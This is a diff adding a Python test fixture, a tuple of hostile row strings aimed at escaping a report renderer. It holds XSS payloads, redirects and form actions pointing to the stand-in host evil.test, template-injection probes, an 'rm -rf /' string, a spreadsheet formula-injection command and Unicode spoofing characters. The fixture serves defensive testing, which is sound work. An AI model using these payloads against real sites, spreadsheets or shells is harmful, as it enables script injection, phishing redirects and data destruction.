@@ -1,0 +1,36 @@
+"""Row text as an attacker would write it, each aimed at one way out of a report."""
+
+from __future__ import annotations
+
+HOSTILE = (
+    "<script>alert(1)</script>",
+    "</script><script>alert(2)</script>",
+    "</SCRIPT ><img src=x onerror=alert(3)>",
+    "<!--<script>",
+    "-->]]><svg/onload=alert(4)>",
+    "</style><style>*{display:none}</style>",
+    "</title><meta http-equiv=refresh content=0;url=//evil.test>",
+    '" onmouseover="alert(5)" x="',
+    "' autofocus onfocus='alert(6)",
+    "<a href=javascript:alert(7)>x</a>",
+    "<iframe srcdoc='<script>parent.alert(8)</script>'>",
+    "<link rel=stylesheet href=https://evil.test/x.css>",
+    "![x](https://evil.test/x.png) [y](javascript:alert(9))",
+    "{{ 7*7 }} {% for x in y %} {# c #} ${7*7} <%= 7*7 %> #{7*7}",
+    "{{ ''.__class__.__mro__ }}",
+    "`; rm -rf / #` ``` ~~~ \n# heading\n- item | cell |",
+    "=cmd|'/C calc'!A0",
+    "+1+1 @SUM(A1) -2",
+    "user \u202egnp.exe\u202c \u2066x\u2069",
+    "\x1b[31mred\x1b[0m\x1b]0;title\x07\x00\x7f",
+    "line\u2028separator\u2029here\x85\x0b\x0c\r",
+    "zero\u200bwidth\u200c\u200d\ufeff\u2060 tag\U000e0041 vs\ufe0f\U000e0100 fill\u3164\u2800",
+    "W" * 6_000,
+    "עברית العربية 中文 😀👩‍👩‍👧 Z̸͍̈a̷l̶g̸o̵",
+    "&lt;script&gt; &amp;#60;b&amp;#62; &#x3c;i&#x3e;",
+    "\\u003cscript\\u003e \\x3cscript\\x3e \\",
+    "</template></noscript></textarea></select></table></svg></math>",
+    "<base href=//evil.test/> <form action=//evil.test><button>go",
+    "__proto__",
+    "constructor",
+)
